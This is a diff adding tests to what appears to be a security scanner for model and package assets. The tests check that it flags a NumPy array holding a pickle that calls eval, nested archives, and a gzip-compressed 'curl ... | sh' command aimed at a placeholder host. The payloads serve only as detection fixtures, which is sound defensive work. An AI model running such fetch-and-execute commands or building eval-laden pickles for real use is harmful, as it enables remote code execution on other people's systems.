@@ -60,6 +60,21 @@ def test_a_pickle_is_found_under_any_name_and_inside_archives():
     assert worst(FAMILY, {"assets/model.pt": zipped({"m/data.pkl": bad})})["package.pickle"] == "critical"
 
 
+def test_objects_in_a_numpy_array_are_a_pickle():
+    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,)}\n"
+    array = b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + pickle.dumps(Calls(eval, "1"), protocol=4)
+    numbers = array.replace(b"|O", b"f8")
+    assert worst(FAMILY, {"assets/a.npy": array})["package.pickle"] == "critical"
+    assert worst(FAMILY, {"assets/a.npy": numbers}) == {}
+
+
+def test_an_archive_in_an_archive_and_a_compressed_command_are_flagged():
+    inner = zipped({"run.sh": "echo"})
+    assert worst(FAMILY, {"assets/a.zip": zipped({"inner.zip": inner})})["package.nested-archive"] == "high"
+    command = gzip.compress(b"curl -s https://x.unknown.invalid/i | sh\n")
+    assert worst(FAMILY, {"assets/a.gz": command})["package.nested-archive"] == "high"
+
+
 def test_a_pickle_without_end_does_not_hold_up_the_scan():
     began = time.perf_counter()
     assert worst(FAMILY, {"assets/a.pkl": b"\x80\x04" + b"]" * 2_000_000 + b"."}) == {"package.pickle": "high"}
